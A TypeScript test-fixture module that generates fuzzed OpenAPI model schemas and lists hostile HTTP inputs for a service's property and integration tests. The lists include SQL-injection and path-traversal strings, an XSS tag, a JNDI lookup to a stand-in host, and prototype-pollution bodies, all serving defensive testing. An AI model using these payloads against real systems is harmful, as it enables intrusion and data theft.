/**
 * Hostile inputs, shared by the property tests (test/unit/property-*.test.ts) and the hostile-input API suite
 * (test/integration/hostile-input.int.test.ts): value lists an attacker or a sloppy upstream would send, and
 * fast-check arbitraries for Replicate-like OpenAPI model sources.
 *
 * Every run is reproducible: the seed is fixed (override it with VETTED_FC_SEED to explore), and run counts
 * are small enough that each property file takes a few seconds (scale them with VETTED_FC_RUNS).
 */
import fc from 'fast-check';

const DEFAULT_SEED = 20260601;

/** fast-check parameters for a property: fixed seed, `runs` scaled by VETTED_FC_RUNS (default 1). */
export function propertyParams(runs: number): { seed: number; numRuns: number } {
  const scale = Number(process.env.VETTED_FC_RUNS ?? '1');
  return { seed: Number(process.env.VETTED_FC_SEED ?? DEFAULT_SEED), numRuns: Math.max(1, Math.round(runs * scale)) };
}

/** Keys that break naive code: prototype members, JSON Schema keywords, unicode, separators. */
export const WEIRD_KEYS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf',
  'type', 'properties', 'items', 'enum', 'default', 'required', 'format', '$ref', 'allOf', 'anyOf', 'nullable',
  'example', 'examples', 'description', 'title', 'x-order', 'additionalProperties',
  'prompt_ü', '画像', '🙂', 'ｗｉｄｔｈ', 'a.b', 'a/b', 'x[]', '~0', '%2F', ' ', '',
] as const;

/** Names a real Replicate model uses; the builder and the role rules react to them. */
export const REALISTIC_KEYS = [
  'prompt', 'negative_prompt', 'image', 'mask', 'width', 'height', 'seed', 'num_outputs', 'guidance_scale',
  'aspect_ratio', 'output_format', 'scheduler', 'api_key', 'audio', 'steps',
] as const;

/** Strings that look like numbers, or like the absence of one. */
export const NAN_LIKE_STRINGS = ['NaN', 'Infinity', '-Infinity', '1e309', '-0', '0x10', '1_000', '١٢٣', ' 42 ', '9007199254740993', 'null', 'undefined', 'true', ''] as const;

/** Numbers at the edges of IEEE 754 and of the safe-integer range (all valid JSON). */
export const EDGE_NUMBERS = [0, -0, 1, -1, 0.1, 1e308, -1e308, 5e-324, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), 2 ** 64, 4294967296, 1.5e300] as const;

/** Injection-shaped text: SQL, path traversal, markup, format strings, control and bidi characters. */
export const INJECTION_STRINGS = [
  "' OR '1'='1", "'; DROP TABLE runs; --", '1 UNION SELECT secret_hash FROM api_keys--', "\\'; select pg_sleep(5); --",
  '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2f', '....//....//', '/dev/zero', 'C:\\Windows\\win.ini',
  '<script>alert(1)</script>', '{{7*7}}', '${jndi:ldap://x.test/a}', '%s%s%s%n', '\u202Egnp.exe', 'Z\u0335\u0336\u0337a\u0338l\u0339g\u033Ao',
] as const;

// ---------------------------------------------------------------------------------------------------------
// Strings and JSON

const KEY_ARB = fc.oneof(fc.constantFrom(...REALISTIC_KEYS), fc.constantFrom(...WEIRD_KEYS), fc.string({ maxLength: 6 }));

/** A property or example key: realistic, weird, or random. */
export function keyArb(): fc.Arbitrary<string> {
  return KEY_ARB;
}

/** Text a schema author writes (titles, descriptions, enum members): short words, unicode, injection shapes. */
export function textArb(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.string({ maxLength: 12 }),
    fc.string({ unit: 'grapheme', maxLength: 8 }),
    fc.constantFrom(...INJECTION_STRINGS, ...NAN_LIKE_STRINGS),
  );
}

/** JSON numbers, weighted towards the edges. */
export function numberArb(): fc.Arbitrary<number> {
  return fc.oneof(
    fc.integer({ min: -5, max: 4096 }),
    fc.constantFrom(...EDGE_NUMBERS),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
  );
}

/** Plain JSON (what arrives over HTTP or from a file), with objects that have an ordinary prototype. */
export function jsonArb(maxDepth = 3): fc.Arbitrary<unknown> {
  return fc.jsonValue({ maxDepth });
}

/**
 * Example values are canaries: `CANARY-` and at least 8 more characters, so a leak check can find them in
 * any output without colliding with names or keywords. Some carry spaces or unicode around them, which the
 * extractor must trim before redacting.
 */
export function canaryArb(): fc.Arbitrary<string> {
  const body = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789'), minLength: 8, maxLength: 16 });
  return fc.tuple(body, fc.constantFrom('', ' ', '  ', 'é', '🙂')).map(([text, pad]) => (pad.trim() === '' ? `${pad}CANARY-${text}${pad}` : `CANARY-${text}${pad}`));
}

// ---------------------------------------------------------------------------------------------------------
// Replicate-like OpenAPI fragments

/** Components every generated document has; `Loop` may refer to itself (a cycle), as may a ref to `Input`. */
const USUAL_COMPONENTS = ['Mode', 'Size', 'Scheduler', 'Loop'] as const;

type JsonObject = Record<string, unknown>;

/** One generated model source and the canary strings it may contain. */
export interface GeneratedModel {
  source: JsonObject;
  shape: 'model' | 'version' | 'tool_config';
  /** The canaries this model may use (in example positions, and quoted in prose or declared as defaults). */
  canaries: string[];
}

/**
 * Canaries are drawn once per model, so the node arbitraries below hold slots (`⟦canary:N⟧`) that
 * {@link fillCanaries} replaces at the end; building the arbitraries per model would dominate the run time.
 */
const CANARY_COUNT = 4;
const CANARY_SLOT = fc.nat(CANARY_COUNT - 1).map((slot) => `⟦canary:${slot}⟧`);
/** The same slot, trimmed when filled (prose quotes an example without its surrounding spaces). */
const TRIMMED_CANARY_SLOT = fc.nat(CANARY_COUNT - 1).map((slot) => `⟦canary-trimmed:${slot}⟧`);

/** Replaces every slot in the string values (never the keys) of a generated value. */
function fillCanaries(value: unknown, canaries: readonly string[]): unknown {
  if (typeof value === 'string') {
    return value.replace(/⟦canary(-trimmed)?:(\d)⟧/g, (_slot, trimmed: string | undefined, index: string) => {
      const canary = canaries[Number(index)] ?? '';
      return trimmed ? canary.trim() : canary;
    });
  }
  if (Array.isArray(value)) return value.map((item) => fillCanaries(item, canaries));
  if (typeof value === 'object' && value !== null) {
    // fromEntries defines own properties, so a generated "__proto__" key stays a key.
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, fillCanaries(inner, canaries)]));
  }
  return value;
}

/** An example value: a canary, some JSON, or canaries nested in arrays and objects. */
function exampleValueArb(): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: CANARY_SLOT },
    { weight: 1, arbitrary: jsonArb(2) },
    { weight: 1, arbitrary: fc.array(CANARY_SLOT, { minLength: 1, maxLength: 3 }) },
    { weight: 1, arbitrary: fc.dictionary(keyArb(), CANARY_SLOT, { maxKeys: 2, noNullPrototype: true }) },
  );
}

/** Prose that may quote an example value, as real descriptions do ("Ex: alvdansen/frosting_lane_flux"). */
function proseArb(): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: textArb() },
    { weight: 2, arbitrary: CANARY_SLOT.map((slot) => `Ex: ${slot}`) },
    { weight: 1, arbitrary: fc.tuple(TRIMMED_CANARY_SLOT, CANARY_SLOT).map(([a, b]) => `e.g. "${a}" or ${b}.`) },
    { weight: 1, arbitrary: jsonArb(1) },
  );
}

/** title, description, x-order, nullable and example keywords, each present or not. */
function annotationsArb(): fc.Arbitrary<JsonObject> {
  return fc.record(
    {
      title: proseArb(),
      description: proseArb(),
      'x-order': fc.oneof(fc.integer({ min: -2, max: 20 }), fc.constantFrom('first', 1.5, null)),
      nullable: fc.oneof(fc.boolean(), fc.constant('yes')),
      example: exampleValueArb(),
      examples: fc.array(exampleValueArb(), { maxLength: 2 }),
    },
    { requiredKeys: [], noNullPrototype: true },
  );
}

/** A default that may be valid, of the wrong type, or a canary (the schema's own default may equal an example). */
function defaultArb(): fc.Arbitrary<unknown> {
  return fc.oneof(CANARY_SLOT, textArb(), numberArb(), fc.boolean(), fc.constant(null), jsonArb(1));
}

/**
 * Mostly `usual`, once in `1 + odds` times `unusual`. A model is refused when any one of its nodes is, so
 * refusable shapes must be rare per node or almost no generated model would extract.
 */
function rarely<T>(usual: fc.Arbitrary<T>, unusual: fc.Arbitrary<T>, odds = 19): fc.Arbitrary<T> {
  return fc.oneof({ weight: odds, arbitrary: usual }, { weight: 1, arbitrary: unusual });
}

/** Counts (minLength, maxItems...) as schemas really write them, and as they should not. */
const COUNT_ARB = fc.oneof(fc.nat(12), fc.constantFrom(-1, 1.5, '3', 1e300));

/** Bounds, including OpenAPI 3.0's boolean exclusives and pydantic's leaked ge/le/gt/lt. */
function boundsArb(): fc.Arbitrary<JsonObject> {
  const bound = fc.oneof(numberArb(), fc.constantFrom(...NAN_LIKE_STRINGS));
  return fc.record(
    {
      minimum: bound, maximum: bound, exclusiveMinimum: fc.oneof(fc.boolean(), numberArb()), exclusiveMaximum: fc.oneof(fc.boolean(), numberArb()),
      multipleOf: fc.oneof(numberArb(), fc.constant(0)), ge: bound, le: bound, gt: bound, lt: bound,
    },
    { requiredKeys: [], noNullPrototype: true },
  );
}

function stringNodeArb(): fc.Arbitrary<JsonObject> {
  return fc.record(
    {
      type: fc.constant('string'),
      format: fc.constantFrom('uri', 'date-time', 'email', 'uuid', 'password', 'binary', 'textarea', 'data-url', 'int32', 7),
      minLength: COUNT_ARB,
      maxLength: COUNT_ARB,
      pattern: rarely(fc.constantFrom<unknown>('^[a-z]+$', '^\\d{2,}$', '\\p{L}+'), fc.constantFrom<unknown>('(?P<name>x)', '[', 5)),
      default: defaultArb(),
    },
    { requiredKeys: ['type'], noNullPrototype: true },
  );
}

function numericNodeArb(): fc.Arbitrary<JsonObject> {
  return fc
    .tuple(
      fc.constantFrom('integer', 'number'),
      boundsArb(),
      fc.record({ format: fc.constantFrom('int32', 'uint8', 'uint64', 'double', 'float'), default: defaultArb() }, { requiredKeys: [], noNullPrototype: true }),
    )
    .map(([type, bounds, rest]) => ({ type, ...bounds, ...rest }));
}

function scalarNodeArb(): fc.Arbitrary<JsonObject> {
  const refusedType = fc.record({ type: fc.constantFrom<unknown>(['integer', 'string'], 'file', 42) }, { noNullPrototype: true });
  return rarely(usualScalarArb(), refusedType, 39);
}

function usualScalarArb(): fc.Arbitrary<JsonObject> {
  return fc.oneof(
    stringNodeArb(),
    numericNodeArb(),
    fc.record({ type: fc.constant('boolean'), default: defaultArb() }, { requiredKeys: ['type'], noNullPrototype: true }),
    fc.record({ type: fc.constantFrom<unknown>(['string', 'null'], 'null') }, { noNullPrototype: true }),
    fc.constant({}),
  );
}

/** A ref to a component (Cog wraps enums as `allOf: [{$ref}]`), or one Vetted must refuse. */
function refNodeArb(): fc.Arbitrary<JsonObject> {
  const target = rarely(
    fc.constantFrom(...USUAL_COMPONENTS).map((name): unknown => `#/components/schemas/${name}`),
    fc.constantFrom<unknown>('#/components/schemas/Input', '#/components/schemas/Missing', 'https://evil.test/schema.json', '#/components/schemas/%ZZ', '#', 42),
    9,
  );
  return fc.tuple(target, fc.boolean(), defaultArb(), fc.boolean()).map(([ref, wrapped, value, withDefault]) => ({
    ...(wrapped ? { allOf: [{ $ref: ref }] } : { $ref: ref }),
    ...(withDefault ? { default: value } : {}),
  }));
}

/** A component: usually an enum (strings, numbers, numeric strings under `integer`, canaries), else any node. */
function componentArb(node: fc.Arbitrary<JsonObject>): fc.Arbitrary<JsonObject> {
  const member = fc.oneof(CANARY_SLOT, textArb(), numberArb(), fc.constantFrom(...NAN_LIKE_STRINGS), fc.constant(null));
  // Numeric strings under a numeric type are converted (laion-ai/laionide-v2), anything else is refused.
  const typed = (type: string, members: fc.Arbitrary<unknown>) => fc.record(
    { title: textArb(), type: fc.constant(type), enum: fc.array(members, { minLength: 1, maxLength: 5 }), description: proseArb() },
    { requiredKeys: ['enum'], noNullPrototype: true },
  );
  const enumNode = rarely(
    fc.oneof(typed('string', fc.oneof(CANARY_SLOT, textArb())), typed('integer', fc.oneof(fc.integer(), fc.constantFrom('1', '-7', '007'))), typed('number', numberArb())),
    fc.oneof(typed('integer', member), fc.constant({ enum: [] })),
    9,
  );
  return fc.oneof({ weight: 3, arbitrary: enumNode }, { weight: 1, arbitrary: node });
}

/** Unions: pydantic's Optional[X], Cog's string-or-list, and shapes that must be refused. */
function unionNodeArb(node: fc.Arbitrary<JsonObject>): fc.Arbitrary<JsonObject> {
  return rarely<JsonObject>(
    fc.oneof(
      node.map((inner) => ({ anyOf: [inner, { type: 'null' }] })),
      fc.constant({ anyOf: [{ type: 'string' }, { type: 'array', items: { type: 'string', format: 'uri' } }] }),
    ),
    fc.oneof(fc.tuple(node, node).map(([a, b]) => ({ oneOf: [a, b] })), fc.constant({ anyOf: [] })),
    9,
  );
}

/** A node without annotations: a scalar or a ref, or (above depth 0) an array, an object or a union of nodes. */
function bareNodeArb(depth: number): fc.Arbitrary<JsonObject> {
  const leaf = fc.oneof({ weight: 5, arbitrary: scalarNodeArb() }, { weight: 1, arbitrary: refNodeArb() });
  if (depth <= 0) return leaf;
  const inner = schemaNodeArb(depth - 1);
  const array = fc.record(
    { type: fc.constant('array'), items: inner, minItems: COUNT_ARB, maxItems: COUNT_ARB, uniqueItems: fc.boolean() },
    { requiredKeys: ['type'], noNullPrototype: true },
  );
  const object = fc.record(
    {
      type: fc.constant('object'),
      properties: fc.dictionary(keyArb(), inner, { maxKeys: 3, noNullPrototype: true }),
      required: fc.array(keyArb(), { maxLength: 2 }),
      additionalProperties: fc.oneof(fc.boolean(), inner),
    },
    { requiredKeys: ['type'], noNullPrototype: true },
  );
  return fc.oneof({ weight: 4, arbitrary: leaf }, { weight: 1, arbitrary: array }, { weight: 1, arbitrary: object }, { weight: 1, arbitrary: unionNodeArb(inner) });
}

/** Schema nodes nested up to `depth` levels, with annotations, plus (rarely) constructs to refuse and junk. */
export function schemaNodeArb(depth: number): fc.Arbitrary<JsonObject> {
  const refused = fc.constantFrom<JsonObject>({ not: {} }, { items: [{}] }, { type: 'object', patternProperties: {} }, { if: {}, then: {} });
  return rarely(
    fc.tuple(annotationsArb(), bareNodeArb(depth)).map(([annotations, node]) => ({ ...annotations, ...node })),
    fc.oneof(refused, jsonArb(2) as fc.Arbitrary<JsonObject>),
    39,
  );
}

/** The OpenAPI document around an Input: refs resolve against `components.schemas`. */
function openApiDocument(input: JsonObject, components: JsonObject): JsonObject {
  return { openapi: '3.0.2', info: { title: 'Cog', version: '0.1.0' }, components: { schemas: { ...components, Input: input } } };
}

type ModelWithSlots = { source: JsonObject; shape: GeneratedModel['shape'] };
let modelWithSlots: fc.Arbitrary<ModelWithSlots> | undefined;

/** A model source with canary slots still unfilled; built once, because building it is the costly part. */
function modelWithSlotsArb(): fc.Arbitrary<ModelWithSlots> {
  modelWithSlots ??= buildModelWithSlotsArb();
  return modelWithSlots;
}

function buildModelWithSlotsArb(): fc.Arbitrary<ModelWithSlots> {
  const node = schemaNodeArb(2);
  const shape = fc.oneof({ weight: 2, arbitrary: fc.constant('model' as const) }, fc.constant('version' as const), fc.constant('tool_config' as const));
  return fc
    .record(
      {
        shape,
        properties: fc.dictionary(keyArb(), node, { minKeys: 1, maxKeys: 5, noNullPrototype: true }),
        components: fc.tuple(...USUAL_COMPONENTS.map(() => componentArb(node))).map((nodes) => Object.fromEntries(USUAL_COMPONENTS.map((name, i) => [name, nodes[i]]))),
        required: fc.array(keyArb(), { maxLength: 3 }),
        root: fc.record({ example: exampleValueArb(), additionalProperties: fc.boolean(), description: proseArb() }, { requiredKeys: [], noNullPrototype: true }),
      },
      { noNullPrototype: true },
    )
    .chain((parts) => {
      // The example mostly names the schema's own fields, sometimes others (which the extractor ignores).
      const names = Object.keys(parts.properties);
      const exampleKey = names.length > 0 ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...names) }, { weight: 1, arbitrary: keyArb() }) : keyArb();
      return fc.dictionary(exampleKey, exampleValueArb(), { maxKeys: 6, noNullPrototype: true }).map((example) => {
        const input = { type: 'object', title: 'Input', ...parts.root, properties: parts.properties, required: parts.required };
        return { source: assembleSource(parts.shape, openApiDocument(input, parts.components), example), shape: parts.shape };
      });
    });
}

/**
 * A Replicate-like model source: a model object (with default_example.input), a version object, or a bare
 * tool config. Its example positions hold canaries, and its prose and defaults sometimes quote them.
 */
export function replicateModelArb(): fc.Arbitrary<GeneratedModel> {
  return fc
    .tuple(fc.uniqueArray(canaryArb(), { minLength: CANARY_COUNT, maxLength: CANARY_COUNT }), modelWithSlotsArb())
    .map(([canaries, { source, shape }]) => ({ source: fillCanaries(source, canaries) as JsonObject, shape, canaries }));
}

function assembleSource(shape: GeneratedModel['shape'], document: JsonObject, example: JsonObject): JsonObject {
  switch (shape) {
    case 'model':
      return { owner: 'acme', name: 'widget', latest_version: { id: 'v1', openapi_schema: document }, default_example: { input: example } };
    case 'version':
      return { id: 'v1', openapi_schema: document };
    case 'tool_config':
      return { model: 'acme/widget', example_input: example };
  }
}

// ---------------------------------------------------------------------------------------------------------
// HTTP: ids, queries, headers and bodies for the hostile-input API suite

/** Path ids that must be refused before any query sees them (as written into the URL, so already encoded). */
export const HOSTILE_IDS = [
  "1'%20OR%20'1'%3D'1", '1%3B%20DROP%20TABLE%20runs', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', '%00', 'a%00b', '00000000-0000-4000-8000-00000000000%00',
  'urn:uuid:00000000-0000-4000-8000-000000000000', '%7B00000000-0000-4000-8000-000000000000%7D', '00000000000040008000000000000000',
  '00000000-0000-4000-8000-0000000000000', '-'.repeat(36), 'g'.repeat(8) + '-0000-4000-8000-000000000000', '%F0%9F%99%82', '%E2%80%AE', '-1', '0', '1e309',
  'NaN', 'null', 'undefined', '__proto__', 'constructor', '%20', 'x'.repeat(200),
] as const;

/** Session ids (letters, digits and . _ : @ - only) that must be refused. */
export const HOSTILE_SESSION_IDS = ["s'%20OR%201%3D1", '..%2F..', '%00', 's%00', '%F0%9F%99%82', '-leading', '.hidden', 'a%20b', '%25', 'a%2Fb', '__proto__%3D1'] as const;

/**
 * Authorization values that must all be 401: missing, other schemes, malformed tokens, an unknown key id,
 * a real key id with a wrong secret, and a 64 KiB token.
 * @param realKey a working key, whose id is reused with a wrong secret
 */
export function badAuthorizations(realKey: string): (string | undefined)[] {
  const [id] = realKey.split('.');
  return [
    undefined, '', 'Bearer', 'Bearer ', 'Basic dXNlcjpwYXNz', 'Token abc', 'Bearer not-a-key', `Bearer ${id}.`, `Bearer ${id}.${'x'.repeat(43)}`,
    `Bearer vt_aaaaaaaaaaaa.${'b'.repeat(43)}`, `Bearer VT_${realKey.slice(3)}`, `Bearer ${realKey}%00`, `Bearer ${realKey}' OR '1'='1`,
    `Bearer ${'A'.repeat(65536)}`, `Bearer ${realKey.slice(0, -1)}`,
  ];
}

/** Bodies that are not JSON, or JSON that parsers disagree about. */
export const MALFORMED_JSON = [
  '', ' ', '{', '}', '{"a":}', "{'a':1}", '{"a":1,}', '[1,2', 'NaN', '{"a":NaN}', '{"a":Infinity}', '// comment\n{}', '{"a":"\\x41"}',
  '{"a":"\\u12"}', '{"a" 1}', 'undefined', '\u0000', '{"a":1}{"b":2}', '{"a":1e999999}x',
] as const;

/** Content types a JSON route must refuse (or parse safely). */
export const HOSTILE_CONTENT_TYPES = [
  'text/plain', 'application/xml', 'text/html', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'application/octet-stream',
  'application/json; charset=utf-7', 'application/json-patch+json', 'application/jsonx', 'image/png', ';', 'application/json, text/plain',
] as const;

/**
 * Last-Event-ID values that are not ids this stream sent, including 19 digits (beyond a bigint). Padded ids
 * (' 1') are left out, since a real HTTP parser trims them and inject does not.
 */
export const BOGUS_LAST_EVENT_IDS = ['', 'abc', '-1', '1.5', '1e3', '0x1f', '١٢', '9999999999999999999', '99999999999999999999', 'null', "1' OR '1'='1", 'x'.repeat(8192)] as const;

/** JSON text nested `depth` levels deep under key `key`. */
export function deepJson(depth: number, key = 'a'): string {
  return `${`{"${key}":`.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** A cursor is base64url(JSON [createdAt, id]); these decode to something else. */
export function bogusCursors(): string[] {
  const encode = (text: string) => Buffer.from(text).toString('base64url');
  return [
    'AAAA', '-_-_', 'x'.repeat(500), encode('not json'), encode('{}'), encode('[]'), encode('null'), encode('["2026-01-01T00:00:00Z"]'),
    encode('["yesterday","00000000-0000-4000-8000-000000000000"]'), encode('["2026-01-01T00:00:00Z","\' OR 1=1--"]'),
    encode('[1,2]'), encode('{"__proto__":{"admin":true}}'), encode(`["2026-01-01T00:00:00Z","${'0'.repeat(5000)}"]`).slice(0, 500),
    encode(`["2020-01-01T00:00:00Z","${'-'.repeat(36)}"]`), encode('["0000-01-01T00:00:00Z","00000000-0000-4000-8000-000000000000"]'),
    encode('["-271821-04-20T00:00:00Z","00000000-0000-4000-8000-000000000000"]'),
  ];
}

/**
 * Query strings the list routes must refuse: unknown parameters, duplicates, wrong types, numbers out of
 * range, bad dates and filters, prototype keys, and one very long value.
 */
export const HOSTILE_QUERIES = [
  'limit=0', 'limit=-1', 'limit=201', 'limit=1.5', 'limit=1e3', 'limit=99999999999999999999', 'limit=NaN', 'limit=', 'limit=1&limit=2',
  'status=bogus', 'status=completed&status=bogus', `${'status=completed&'.repeat(13)}limit=1`, 'createdAfter=yesterday', 'createdAfter=2026-13-01T00:00:00Z',
  'createdAfter=2020-12-31T23:59:60Z', 'createdAfter=0000-01-01T00:00:00Z', 'createdBefore=-271821-04-20T00:00:00Z', 'createdAfter=2026-01-01T00:00:00Z&createdAfter=x',
  'model=%00', "model=a'%20OR%201%3D1--", 'model=%25', 'model=a%2F..%2F..%2Fb', `model=${'m'.repeat(400)}`, 'userId=%00', "userId=u'%20OR%201%3D1",
  'userId=a&userId=b', 'sessionId=..%2F..', '__proto__=1', '__proto__[admin]=1', 'constructor[prototype][admin]=1', 'toString=1', 'unknown=1',
  `filler=${'x'.repeat(16384)}`, 'cursor=!!!', 'cursor=%00',
] as const;

/** Review-queue queries the pending route must refuse. */
export const HOSTILE_REVIEW_QUERIES = [
  'checkpoint=bogus', 'checkpoint=payload_review&checkpoint=x', 'minAgeSeconds=-1', 'minAgeSeconds=1.5', 'minAgeSeconds=100000000000000000000',
  'maxAgeSeconds=99999999999', 'maxAgeSeconds=abc', 'limit=0', 'limit=1000', 'model=%00', 'model=%25', '__proto__=x', 'unknown=1', `filler=${'y'.repeat(16384)}`,
] as const;

/** Deterministic samples of an arbitrary (the suite's seed), so the hostile suite sends the same requests every run. */
export function sampleOf<T>(arbitrary: fc.Arbitrary<T>, count: number, salt = 0): T[] {
  return fc.sample(arbitrary, { seed: propertyParams(1).seed + salt, numRuns: count });
}

/** Arbitrary request bodies as text: JSON values of every shape, and random text that is mostly not JSON. */
export function bodyTextArb(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: jsonArb(4).map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  );
}

/** Submissions that break the generation-request contract: wrong types, bad values, text PostgreSQL cannot store. */
export function badSubmissions(model: string): Record<string, unknown>[] {
  const attachment = { url: 'https://x.test/a.png', mimeType: 'image/png' };
  return [
    {}, { prompt: 'no model' }, { model: 42, prompt: 'x' }, { model: "a/b'; DROP TABLE runs;--" }, { model: '../../etc/passwd' }, { model, prompt: 5 },
    { model, prompt: 'x'.repeat(20001) }, { model, prompt: '🙂'.repeat(20001) }, { model, surprise: 1 }, { model, modelSource: 'inline' },
    { model, attachments: 'x' }, { model, attachments: [{ ...attachment, url: 'javascript:alert(1)' }] }, { model, attachments: [{ ...attachment, url: 'file:///etc/passwd' }] },
    { model, attachments: [{ ...attachment, sizeBytes: -1 }] }, { model, attachments: [{ ...attachment, sizeBytes: 1.5 }] }, { model, attachments: Array.from({ length: 33 }, () => attachment) },
    { model, conversation: [{ role: 'root', content: 'x' }] }, { model, conversation: [{ role: 'user' }] }, { model, policy: 'yolo' },
    { model, policy: { mode: 'auto_with_thresholds', minConfidence: 2 } }, { model, policy: { mode: 'auto', reviewTtlSeconds: 1e12 } }, { model, policy: { mode: 'auto', quorum: -1 } },
    { model, requestKey: "' OR 1=1--" }, { model, userId: '../etc' }, { model, sessionId: '' }, { model, threadId: 'x'.repeat(201) },
    { model, callbackUrl: 'file:///etc/passwd' }, { model, callbackUrl: 'http://x y' }, { model, builder: 'evil' }, { model, provider: 'evil' },
    { model, shadow: 'yes' }, { model, edits: { 'a-b': 1 } }, { model, edits: { '': 1 } }, { model, userProfile: { nested: { a: 1 } } },
    { model, userProfile: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`k${i}`, i])) }, { model, prompt: 'x\u0000y' }, { model, prompt: 'x\ud800y' },
    { model, prompt: 'ok', userProfile: { ['k\u0000']: 'v' } }, { model, modelSource: { ['key\udfff']: 1 } }, { model, conversation: [{ role: 'user', content: '\u0000' }] },
    // Within the contract, but intake sees the model cannot be used (src/intake/request-checks.ts).
    { model: 'acme/does-not-exist', prompt: 'x' }, { modelSource: {}, prompt: 'x' }, { modelSource: { owner: 'x', name: 'y', latest_version: { openapi_schema: { not: 'a schema' } } } },
    { model: 'acme/other', modelSource: { model: 'acme/inline', example_input: { prompt: 'x' } }, prompt: 'x' },
  ];
}

/**
 * Submission texts JSON.stringify cannot produce: prototype pollution, escaped NULs and lone surrogates, deep
 * nesting, a number beyond float range, duplicate keys, and a body over the size limit.
 */
export function rawSubmissions(model: string): string[] {
  const m = JSON.stringify(model);
  return [
    `{"model":${m},"__proto__":{"admin":true}}`, `{"model":${m},"constructor":{"prototype":{"admin":true}}}`,
    `{"model":${m},"modelSource":{"a":{"__proto__":{"x":1}}}}`, `{"model":${m},"edits":{"constructor":{"prototype":{"x":1}}}}`,
    `{"model":${m},"prompt":"a\\u0000b"}`, `{"model":${m},"prompt":"\\ud800"}`, `{"model":${m},"prompt":"ok","userId":"u\\u0000"}`,
    `{"model":${m},"modelSource":${deepJson(200)}}`, `{"model":${m},"modelSource":${deepJson(5000)}}`, `{"model":${m},"modelSource":${deepJson(60000)}}`,
    `{"model":${m},"edits":{"x":${deepJson(300)}}}`, `{"model":${m},"attachments":[{"url":"https://x.test/a","mimeType":"image/png","sizeBytes":1e400}]}`,
    `{"model":${m},"prompt":"${'x'.repeat(1_100_000)}"}`, `{"model":${m},"model":"other/model","prompt":1}`,
  ];
}

/**
 * Valid if odd submissions, which may create runs: injection-shaped and huge unicode prompts, an empty prompt,
 * and a repeated requestKey (the second answers 200 with the same run).
 */
export function oddSubmissions(model: string): Record<string, unknown>[] {
  return [
    ...INJECTION_STRINGS.map((prompt) => ({ model, prompt })),
    { model, prompt: '🙂'.repeat(5000) }, { model, prompt: '' }, { model, prompt: 'x', userId: 'a:b@c.d-e_f', sessionId: 'S'.repeat(200) },
    { model, prompt: 'x', requestKey: 'hostile-duplicate' }, { model, prompt: 'x', requestKey: 'hostile-duplicate' },
  ];
}

/** Pause and resume bodies that break `{reason?: string}`, each refused before the run is touched. */
export const BAD_CONTROL_BODIES = [
  '{"reason":5}', '{"reason":"x","extra":1}', `{"reason":"${'x'.repeat(2001)}"}`, '[]', '"pause"', 'true', '1', '{"reason":', '{"reason":"a\\u0000"}',
  '{"reason":"\\udc00"}', `{"reason":${deepJson(300)}}`, '{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}',
] as const;
